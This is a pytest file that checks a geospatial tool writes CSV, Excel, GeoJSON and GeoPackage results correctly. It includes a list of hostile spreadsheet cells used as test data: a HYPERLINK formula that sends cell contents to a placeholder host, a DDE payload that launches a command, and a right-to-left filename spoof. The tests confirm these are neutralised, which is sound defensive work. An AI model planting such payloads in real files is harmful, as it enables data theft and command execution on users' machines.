"""Writing check results: CSV with a byte-order mark, Excel with text kept as text, GeoJSON and
GeoPackage; any text a user's cells hold comes back unchanged."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from shapely.geometry import Point

from iszones.check.outputs import output_format, result_bytes, write_result
from iszones.errors import DataFileError
from iszones.inputs.text import spreadsheet_text
from tests.conftest import ROOT, X0, Y0


@pytest.fixture
def result() -> gpd.GeoDataFrame:
    return gpd.GeoDataFrame(
        {
            "name": ["=1+1", "<b>x</b>", "z"],
            "tags": [["a", "b"], [], None],
            "in_zone": np.array([True, False, None], dtype=object),
            "nearest_zone_distance_m": [0.0, 12.5, np.nan],
            "problem": ["", "", "no coordinates"],
        },
        geometry=[Point(X0, Y0), Point(X0 + 1, Y0), None],
        crs="EPSG:27700",
    )


def test_csv_has_a_bom_true_false_and_empty_for_unknown(result):
    text = result_bytes(result, ".csv").decode("utf-8")
    assert text.startswith("\ufeffname,tags,in_zone")
    lines = text.lstrip("\ufeff").splitlines()
    assert lines[1] == '\'=1+1,"[""a"", ""b""]",true,0.0,'  # the formula made inert
    assert lines[3] == "z,,,,no coordinates"
    assert (
        "wkt" in result_bytes(result, ".csv", include_wkt=True).decode("utf-8-sig").splitlines()[0]
    )


def test_a_column_of_python_numbers_is_written_as_str_writes_each():
    """A spreadsheet's columns come as Python objects: floats (a column at a time by the
    compiled writer), ints, and mixtures (one by one) print as str() prints each value."""
    from iszones.geo.texts import FEW_ROWS

    n = FEW_ROWS // 8 + 1  # over FEW_ROWS rows, so the compiled writer is used
    floats = [-1.4746, None, float("nan"), -0.0, 1e-05, 0.1 + 0.2, 435100.0, float("inf")] * n
    ints = [1, None, -7, 10**18, 0, 3, 2, 1] * n
    mixed = [1, 2.5, "x", None, True, 1e-05, -0.0, "=1"] * n
    frame = gpd.GeoDataFrame(
        {
            "lon": np.array(floats, dtype=object),
            "ref": np.array(ints, dtype=object),
            "any": np.array(mixed, dtype=object),
        },
        geometry=[Point(X0, Y0)] * len(floats),
        crs="EPSG:27700",
    )
    rows = list(csv.reader(io.StringIO(result_bytes(frame, ".csv").decode("utf-8-sig"))))[1:]

    def cell(value):
        if value is None or (isinstance(value, float) and value != value):
            return ""
        return "true" if value is True else "'=1" if value == "=1" else str(value)

    assert [r[0] for r in rows] == [cell(v) for v in floats]
    assert [r[1] for r in rows] == [cell(v) for v in ints]
    assert [r[2] for r in rows] == [cell(v) for v in mixed]


def test_csv_written_in_blocks_is_the_same_file(result, monkeypatch):
    from iszones.check import outputs

    whole = result_bytes(result, ".csv", include_wkt=True)
    monkeypatch.setattr(outputs, "CSV_BLOCK_ROWS", 2)
    assert result_bytes(result, ".csv", include_wkt=True) == whole
    assert whole.decode("utf-8-sig").count("\n") == len(result) + 1


def _sheet_cells(payload: bytes) -> list[list[tuple[object, str]]]:
    sheet = load_workbook(io.BytesIO(payload)).active
    return [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]


def test_xlsx_made_in_blocks_has_the_same_cells(tmp_path, monkeypatch):
    """Excel rows are made plain a block at a time; columns whose kind differs from block to
    block (text then a number, empty blocks, flags with gaps, lists) read the same as when
    made in one block, and write_result's file is result_bytes' workbook."""
    from iszones.check import outputs

    frame = gpd.GeoDataFrame(
        {
            "name": ["=1+1", "a", None, None, "b", "007"],
            "mixed": ["x", "y", 3, None, "-2", 1.5],
            "in_zone": np.array([True, None, None, False, None, True], dtype=object),
            "distance_m": [0.0, np.nan, np.nan, 12.5, 7.0, np.nan],
            "tags": [["a", "b"], None, None, [], ["c"], None],
        },
        geometry=[Point(X0 + r, Y0) for r in range(6)],
        crs="EPSG:27700",
    )
    whole = _sheet_cells(result_bytes(frame, ".xlsx"))
    monkeypatch.setattr(outputs, "XLSX_BLOCK_ROWS", 2)
    assert _sheet_cells(result_bytes(frame, ".xlsx")) == whole
    write_result(frame, tmp_path / "out.xlsx")
    assert _sheet_cells((tmp_path / "out.xlsx").read_bytes()) == whole
    assert len(whole) == 7 and whole[1][0] == ("'=1+1", "s")


def test_a_wide_table_is_written_in_blocks_of_fewer_rows(monkeypatch):
    """Blocks are bounded by fields, not rows: 300 columns in blocks of 7 fields are cut to one
    row at a time, and CSV and GeoJSON are the same files as written in one block."""
    from iszones.geo import texts

    wide = gpd.GeoDataFrame(
        {f"c{k}": [f"v{k},{r}" for r in range(5)] for k in range(300)},
        geometry=[Point(X0 + r, Y0) for r in range(5)],
        crs="EPSG:27700",
    )
    whole = {suffix: result_bytes(wide, suffix) for suffix in (".csv", ".geojson")}
    assert texts.block_rows(300, 100_000) == texts.BLOCK_CELLS // 300
    monkeypatch.setattr(texts, "BLOCK_CELLS", 7)
    assert texts.block_rows(300, 100_000) == 1 and texts.block_rows(3, 100_000) == 2
    for suffix, expected in whole.items():
        assert result_bytes(wide, suffix) == expected
    assert len(json.loads(whole[".geojson"])["features"]) == 5


def test_xlsx_keeps_text_as_text_and_booleans_as_booleans(result):
    book = load_workbook(io.BytesIO(result_bytes(result, ".xlsx")))
    rows = list(book.active.iter_rows(values_only=True))
    assert rows[0] == ("name", "tags", "in_zone", "nearest_zone_distance_m", "problem")
    assert rows[1] == (
        "'=1+1",
        '["a", "b"]',
        True,
        0,
        None,
    )  # a formula would be read back as '=1+1' too:
    assert book.active["A2"].data_type == "s"  # so check the cell type: text, not a formula
    assert rows[3][2] is None


def test_geojson_and_geopackage_round_trip(result, tmp_path):
    doc = json.loads(result_bytes(result, ".geojson"))
    assert doc["features"][0]["properties"]["in_zone"] is True
    assert doc["features"][2]["geometry"] is None
    assert doc["features"][0]["geometry"]["coordinates"][0] == pytest.approx(-1.481, abs=1e-3)
    path = tmp_path / "out.gpkg"
    write_result(result, path)
    back = gpd.read_file(path)
    assert back.crs.to_epsg() == 27700 and back["in_zone"].tolist()[:2] == ["true", "false"]


def test_geopackage_written_in_place_equals_its_bytes_and_a_failure_keeps_the_old_file(
    result, tmp_path, monkeypatch
):
    """GDAL writes the GeoPackage beside the target (not in memory, which is slower); a write
    that fails half-way leaves the old file and no temporary file."""
    path = tmp_path / "out.gpkg"
    write_result(result, path)
    from_bytes = tmp_path / "bytes.gpkg"
    from_bytes.write_bytes(result_bytes(result, ".gpkg"))
    written, made = gpd.read_file(path), gpd.read_file(from_bytes)
    pd.testing.assert_frame_equal(pd.DataFrame(written), pd.DataFrame(made))
    assert written["tags"].tolist()[:2] == ['["a", "b"]', "[]"]  # lists as JSON text
    assert written["nearest_zone_distance_m"].isna().tolist() == [False, False, True]

    import pyogrio.errors

    def half_then_fail(table, where, **options):  # type: ignore[no-untyped-def]
        Path(where).write_bytes(b"half a file")
        raise pyogrio.errors.DataSourceError("No space left on device")

    monkeypatch.setattr(pyogrio, "write_arrow", half_then_fail)
    old = path.read_bytes()
    with pytest.raises(DataFileError, match=r"out\.gpkg: GDAL could not write .*No space left"):
        write_result(result, path)
    assert path.read_bytes() == old
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bytes.gpkg", "out.gpkg"]


def test_geopackage_has_large_pages_and_a_spatial_index_and_gdal_is_left_as_it_was(
    result, tmp_path
):
    """The GeoPackage is written with 64 KB SQLite pages (quicker to write), keeps its R-tree,
    passes SQLite's integrity check, and GDAL's settings are restored for other files."""
    import sqlite3

    import pyogrio

    before = {
        k: pyogrio.get_gdal_config_option(k) for k in ("OGR_SQLITE_PRAGMA", "OGR_SQLITE_CACHE")
    }
    path = tmp_path / "out.gpkg"
    write_result(result, path)
    with sqlite3.connect(path) as db:
        assert db.execute("PRAGMA page_size").fetchone() == (65536,)
        assert db.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        tables = {row[0] for row in db.execute("SELECT name FROM sqlite_master")}
    assert any(t.startswith("rtree_checked_sites_") for t in tables)
    after = {k: pyogrio.get_gdal_config_option(k) for k in before}
    assert after == before
    assert gpd.read_file(path)["name"].tolist() == ["=1+1", "<b>x</b>", "z"]


def test_geopackage_fields_that_differ_only_in_case_are_kept(result, tmp_path):
    """SQLite compares field names without case: 'Name' after 'name' is written as 'Name_2'
    (it stopped the write with a traceback), and a user's 'Geometry' column is kept too."""
    result = result.assign(Name=["a", "b", "c"], Geometry=["g1", "g2", "g3"])
    path = tmp_path / "cased.gpkg"
    write_result(result, path)
    back = gpd.read_file(path)
    assert back["name"].tolist()[1:] == ["<b>x</b>", "z"] and back["Name_2"].tolist() == [
        "a",
        "b",
        "c",
    ]
    assert back["Geometry"].tolist() == ["g1", "g2", "g3"] and back.geometry.iloc[0] is not None


def test_output_format_by_extension(tmp_path):
    assert output_format("a/b.CSV") == ".csv"
    assert output_format("b.json") == ".geojson"
    with pytest.raises(DataFileError, match=r"out\.txt: cannot write a '\.txt' file"):
        output_format("out.txt")


@settings(max_examples=30, deadline=None)
@given(
    st.lists(
        st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc"))), min_size=1, max_size=5
    )
)
def test_csv_cells_survive_a_round_trip(names):
    """Whatever text a user's names hold, the checked CSV gives it back as spreadsheet_text made
    it: unchanged, but for a leading apostrophe before a formula and no bidi controls."""
    frame = gpd.GeoDataFrame(
        {"name": names}, geometry=[Point(X0, Y0)] * len(names), crs="EPSG:27700"
    )
    back = pd.read_csv(
        io.BytesIO(result_bytes(frame, ".csv")),
        dtype=str,
        keep_default_na=False,
        skip_blank_lines=False,  # a lone value of spaces is a row, not a blank line
        encoding="utf-8-sig",
    )
    assert back["name"].tolist() == [spreadsheet_text(n) for n in names]


HOSTILE_CELLS = {
    '=HYPERLINK("http://x.example/?"&A1,"Click")': "'=HYPERLINK",
    "+cmd|' /C calc'!A0": "'+cmd|",
    "-2+3": "'-2+3",
    "@SUM(A1:A2)": "'@SUM",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "-1.5": "-1.5",  # a number written as text stays a number
    "+44": "+44",
    "1e308": "1e308",
    "Plot \u202egpj.exe": "Plot gpj.exe",  # right-to-left override dropped
}


def test_csv_and_xlsx_neutralise_formulas_but_never_numbers():
    """OWASP: text starting with = + - @ tab or CR gets a leading apostrophe; numbers never."""
    texts = list(HOSTILE_CELLS)
    frame = gpd.GeoDataFrame(
        {
            "=col": texts,  # a column name is a cell too
            "lon": [-1.5] * len(texts),
            "text_lon": ["-1.5"] * len(texts),
        },
        geometry=[Point(X0, Y0)] * len(texts),
        crs="EPSG:27700",
    )
    raw = result_bytes(frame, ".csv")
    header, *rows = csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""))
    assert header == ["'=col", "lon", "text_lon"]
    for row, want in zip(rows, HOSTILE_CELLS.values(), strict=True):
        assert row[0].startswith(want), (row[0], want)
    assert {(r[1], r[2]) for r in rows} == {("-1.5", "-1.5")}
    assert b'"\'\r=1+1"' in raw  # a field with a carriage return is quoted
    book = load_workbook(io.BytesIO(result_bytes(frame, ".xlsx")))
    rows = list(book.active.iter_rows(values_only=True))
    assert rows[0] == ("'=col", "lon", "text_lon")
    # (XML reads a carriage return back as a line feed)
    wanted = [w.replace("\r", "\n") for w in HOSTILE_CELLS.values()]
    assert [str(r[0])[: len(w)] for r, w in zip(rows[1:], wanted, strict=True)] == wanted
    assert {r[1] for r in rows[1:]} == {-1.5}  # a number cell, not text


def test_one_choke_point_for_spreadsheet_cells():
    """Every CSV/XLSX writer calls inputs.text; no module keeps its own list of formula starts."""
    root = ROOT
    sources = [root / "app.py", *root.glob("iszones/**/*.py")]
    own = [
        str(path.relative_to(root))
        for path in sources
        if path.name != "text.py" and re.search(r"""["']=["'],\s*["']\+["']""", path.read_text())
    ]
    assert own == []
    assert "safe_cell as _safe_cell" in (root / "iszones" / "web" / "dashboard.py").read_text()


def test_excel_keeps_numbers_as_numbers_and_text_as_text(tmp_path):
    from openpyxl import load_workbook

    from iszones.check.outputs import excel_number

    frame = gpd.GeoDataFrame(
        {
            "ref": ["007", "P2"],
            "easting": ["435100", "435200.5"],
            "phone": ["0115 123", "01159"],
            "formula": ["=1+1", "-x"],
            "code": ["#N/A", "#REF!x"],  # Excel's error codes stay text too
            "distance_m": [12.5, None],
        },
        geometry=[None, None],
        crs="EPSG:27700",
    )
    path = tmp_path / "out.xlsx"
    path.write_bytes(result_bytes(frame, ".xlsx"))
    sheet = load_workbook(path).active
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:F3"
    first = [(c.value, c.data_type) for c in next(sheet.iter_rows(min_row=2, max_row=2))]
    assert first == [
        ("007", "s"),
        (435100, "n"),
        ("0115 123", "s"),
        ("'=1+1", "s"),
        ("#N/A", "s"),
        (12.5, "n"),
    ]
    assert sheet.column_dimensions["A"].width >= 8
    assert excel_number("1e5") is None and excel_number("1,200") is None
    assert excel_number("-1.4746") == -1.4746
